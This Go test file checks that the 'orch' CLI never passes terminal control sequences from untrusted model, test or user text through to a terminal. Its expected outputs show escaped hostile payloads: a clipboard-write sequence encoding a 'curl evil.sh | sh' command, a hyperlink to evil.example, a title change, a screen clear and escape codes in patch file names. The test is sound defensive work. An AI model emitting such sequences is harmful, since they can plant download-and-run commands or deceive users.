package cli

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	"github.com/rogpeppe/go-internal/testscript"

	"github.com/orchdev/orch/internal/gittest"
	"github.com/orchdev/orch/internal/hostile"
)

// Untrusted text never drives the user's terminal (docs/terminal.md): the
// hostile terminal corpus is put into every field a model, a test suite
// or a person writes — the brief, the plan (title, goals, questions, file
// plan), the plan reviewers' summaries, codegen's notes and files (so the
// diff's lines), the code reviewers' issues, a failing test's output, the
// advice, override, redo and accept reasons, and the artifacts' Markdown
// written by hand — and every command that shows them runs piped and in a
// pseudo-terminal: none writes a control sequence but orch's own colours.
func TestHostileTextNeverReachesTheTerminal(t *testing.T) {
	if testing.Short() {
		t.Skip("runs the whole lifecycle")
	}
	text := hostile.TerminalText()
	arg := strings.ReplaceAll(text, "\x00", "") // argv cannot hold NUL
	js := func(v any) string {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		return string(b)
	}
	line := strings.ReplaceAll(strings.ReplaceAll(text, "\n", " "), "\x00", "")

	dir := t.TempDir()
	gittest.WriteFiles(t, dir, map[string]string{
		"go.mod":  "module example.com/calc\n\ngo 1.22\n",
		"calc.go": "package calc\n\n// Add returns the sum of a and b.\nfunc Add(a, b int) int { return a - b }\n",
	})
	gittest.Git(t, dir, "init", "-q")
	gittest.Git(t, dir, "add", "-A")
	gittest.Git(t, dir, "commit", "-qm", "base")

	// check fails the test when out could drive a terminal.
	check := func(what, out string) {
		t.Helper()
		out = strings.ReplaceAll(out, "\r\n", "\n")
		if bad := hostile.TerminalViolation(out); bad != "" {
			t.Errorf("%s: %s\n%s", what, bad, out)
		}
	}
	// orch runs a command piped; pty runs it in a terminal (no live
	// status line: TERM=dumb for the agent commands, whose spinner is
	// orch's own drawing).
	orch := func(want int, args ...string) string {
		t.Helper()
		code, out := runOrch(t, dir, []string{"NO_COLOR="}, args...)
		if want >= 0 && code != want {
			t.Fatalf("orch %s: exit %d, want %d\n%s", args[0], code, want, out)
		}
		check(fmt.Sprintf("piped orch %.40q", strings.Join(args, " ")), out)
		return out
	}
	pty := func(want int, env []string, args ...string) string {
		t.Helper()
		screen, code := inPTY(t, dir, append([]string{"ORCH_PAGER=cat"}, env...), args...)
		if want >= 0 && code != want {
			t.Fatalf("orch %s in a terminal: exit %d, want %d\n%s", args[0], code, want, screen)
		}
		check(fmt.Sprintf("orch %.40q in a terminal", strings.Join(args, " ")), screen)
		return screen
	}
	dumb := []string{"TERM=dumb"}

	orch(0, "init")
	writeFile(t, filepath.Join(dir, ".orch", "config.toml"), "[providers.default]\ntype = \"script\"\nscript = \"script.json\"\n")
	if err := os.MkdirAll(filepath.Join(dir, ".orch", "cache"), 0o755); err != nil {
		t.Fatal(err)
	}
	testFile := "package calc\n\nimport \"testing\"\n\nfunc TestAdd(t *testing.T) {\n\tt.Log(" + js(line) + ")\n\tif Add(2, 3) != 5 {\n\t\tt.Fatal(" + js(line) + ")\n\t}\n}\n"
	plan := func(questions string) string {
		return `{"role": "planner", "json": {"title": ` + js(line) + `, "goals": [` + js(text) + `],
		"scope": {"in_scope": [` + js(text) + `], "out_of_scope": []}, "work": {"tasks": [{"title": ` + js(text) + `, "detail": ` + js(text) + `}]},
		"risks": [` + js(text) + `], "assumptions": [], "acceptance_criteria": [` + js(text) + `],
		"test_plan": {"strategy": ` + js(text) + `, "cases": [` + js(text) + `]},
		"file_plan": [{"path": "calc.go", "intent": "update", "summary": ` + js(text) + `}, {"path": "calc_test.go", "intent": "create", "summary": ` + js(text) + `}],
		"questions": [` + questions + `]}}`
	}
	reviewer := `{"role": "plan_reviewer", "json": {"ok": true, "severity": "info", "decision": "approve", "blocking_issues": [], "suggestions": [` + js(text) + `], "summary": ` + js(text) + `}}`
	script := `{"responses": [` +
		plan(`{"id": "q1", "text": `+js(text)+`, "blocking": true}`) + `,` +
		plan(`{"id": "q1", "text": `+js(text)+`, "blocking": true}`) + `,` +
		strings.Repeat(reviewer+",", 5) +
		`{"role": "codegen", "json": {"status": "completed", "deletes": [], "notes": ` + js(text) + `,
		  "files": [{"path": "calc.go", "content": ` + js("package calc\n\n// Add returns the sum of a and b: "+line+"\nfunc Add(a, b int) int { return a - b }\n") + `},
		            {"path": "calc_test.go", "content": ` + js(testFile) + `}]}},
		{"role": "code_reviewer", "json": {"ok": true, "summary": ` + js(text) + `, "issues": [{"severity": "minor", "kind": "style", "file": "calc.go", "line": 1, "message": ` + js(text) + `}]}},
		{"role": "accept_advisor", "json": {"recommendation": "accepted", "confidence": "high", "summary": ` + js(text) + `, "reasons": [` + js(text) + `]}}
	]}`
	writeFile(t, filepath.Join(dir, "script.json"), script)

	orch(0, "new", "--id", "h", arg)
	pty(0, nil, "status")
	// shown: out, without its colours, shows each of wants.
	shown := func(out string, wants ...string) {
		t.Helper()
		out = sgr.ReplaceAllString(out, "")
		for _, w := range wants {
			if !strings.Contains(out, w) {
				t.Errorf("the output lacks %q:\n%s", w, out)
			}
		}
	}
	shown(pty(0, dumb, "plan"), "q1: copy ^[]52;c;Y3VybCBldmlsLnNoIHwgc2g=^G done", `\u202e`)
	shown(pty(0, dumb, "answer", "q1", arg), "answered q1 in planning/planning.ai.json: copy ^[]52")
	pty(0, dumb, "plan")
	pty(0, dumb, "review", "plan")
	orch(0, "next")
	pty(0, dumb, "codegen")
	orch(0, "next")
	pty(0, dumb, "review", "code")
	// The suite fails, printing the corpus; the task goes back to codegen.
	shown(pty(-1, dumb, "test", "--sandbox", "none"), "copy ^[]52;c;")
	orch(0, "next", "--override", arg, "--to", "accept")
	pty(0, dumb, "advise")

	// Hand-written Markdown and a hand-written patch, file names included.
	taskDir := filepath.Join(dir, ".orch", "tasks", "h")
	for _, rel := range []string{"planning/brief.md", "planning/plan.md", "review/plan-review.md", "review/code-review.md", "accept/advice.md"} {
		writeFile(t, filepath.Join(taskDir, filepath.FromSlash(rel)), "# "+text+"\n\n- "+text+"\n\n| a | b |\n|---|---|\n| "+line+" | x |\n\n```\n"+text+"```\n")
	}
	shown(pty(0, nil, "show", "plan"), "^[]0;PWNED^G", "^[[2J^[[Hclean screen", `\xff\xfe`)
	shown(pty(0, nil, "diff"), "^[]8;;https://evil.example/pwn^G")
	shown(orch(0, "log", "-v"), "→ accept", "copy ^[]52;c;")
	orig, err := os.ReadFile(filepath.Join(taskDir, "code", "diff.patch"))
	if err != nil {
		t.Fatal(err)
	}
	var hostilePatch strings.Builder
	hostilePatch.Write(orig)
	hostilePatch.WriteString("diff --git a/\x1b]0;x\x07.go b/\x1b]0;x\x07.go\n--- a/\x1b]0;x\x07.go\n+++ b/\x1b]0;x\x07.go\n@@ -1 +1 @@\n")
	for l := range strings.Lines(text) {
		hostilePatch.WriteString("+" + l)
	}

	for _, args := range [][]string{
		{"status"}, {"status", "--json"}, {"log"}, {"log", "-v"}, {"log", "--json"}, {"list"}, {"list", "--json"},
		{"show", "brief"}, {"show", "plan"}, {"show", "plan-review"}, {"show", "diff"}, {"show", "code-review"},
		{"show", "advice"}, {"diff"}, {"cost"}, {"verify"}, {"next", "--json"},
	} {
		out := orch(-1, args...)
		pty(-1, nil, args...)
		if args[len(args)-1] == "--json" {
			// Still JSON: every line of an object (stderr, mixed in
			// here, has the refusals) parses.
			for l := range strings.Lines(strings.TrimSpace(out)) {
				if strings.HasPrefix(l, "{") && !json.Valid([]byte(l)) {
					t.Errorf("orch %v: not JSON: %q", args, l)
				}
			}
		}
	}
	// Through the pager: what reaches it has no control sequence either.
	pagerPath, rec := fakePager(t)
	for _, args := range [][]string{{"log", "-v"}, {"show", "plan"}, {"diff"}} {
		pty(0, []string{"ORCH_PAGER=" + pagerPath}, args...)
		check("what orch "+args[0]+" gave the pager", readRec(t, rec, "in"))
	}
	// The hand-written patch: refused, its names and lines quoted safely.
	writeFile(t, filepath.Join(taskDir, "code", "diff.patch"), hostilePatch.String())
	pty(-1, nil, "diff")
	pty(-1, nil, "status")
	pty(-1, nil, "accept", "--verdict", "accepted", "--reason", arg, "--allow-incomplete")
	writeFile(t, filepath.Join(taskDir, "code", "diff.patch"), string(orig))

	// accept commits with the plan's title and the reasons: git log shows
	// them as orch wrote them, without a control character.
	pty(0, nil, "accept", "--verdict", "accepted", "--reason", arg, "--allow-incomplete")
	check("git log", gittest.Git(t, dir, "log", "-1", "--format=%B"))
	for _, args := range [][]string{{"status"}, {"log"}, {"show", "summary"}, {"redo", "--reason", arg}, {"log", "-v"}} {
		pty(-1, nil, args...)
	}
	orch(-1, "status")
}

var sgr = regexp.MustCompile(`\x1b\[[0-9;]*m`)

// hostile FILE [TEMPLATE]: write the hostile terminal corpus to FILE; with
// a TEMPLATE, the template with each HOSTILE replaced by the corpus as a
// JSON string (control characters escaped as JSON does).
func cmdHostile(ts *testscript.TestScript, neg bool, args []string) {
	if neg || len(args) < 1 || len(args) > 2 {
		ts.Fatalf("usage: hostile FILE [TEMPLATE]")
	}
	content := hostile.TerminalText()
	if len(args) == 2 {
		q, err := json.Marshal(content)
		ts.Check(err)
		content = strings.ReplaceAll(args[1], "HOSTILE", string(q))
	}
	path := ts.MkAbs(args[0])
	ts.Check(os.MkdirAll(filepath.Dir(path), 0o755))
	ts.Check(os.WriteFile(path, []byte(content), 0o644))
}

// noescape stdout|stderr|FILE: the text holds nothing that could drive a
// terminal (hostile.TerminalViolation); with !, it does.
func cmdNoEscape(ts *testscript.TestScript, neg bool, args []string) {
	if len(args) != 1 {
		ts.Fatalf("usage: noescape stdout|stderr|FILE")
	}
	bad := hostile.TerminalViolation(ts.ReadFile(args[0]))
	switch {
	case bad != "" && !neg:
		ts.Fatalf("%s: %s", args[0], bad)
	case bad == "" && neg:
		ts.Fatalf("%s could not drive a terminal", args[0])
	}
}
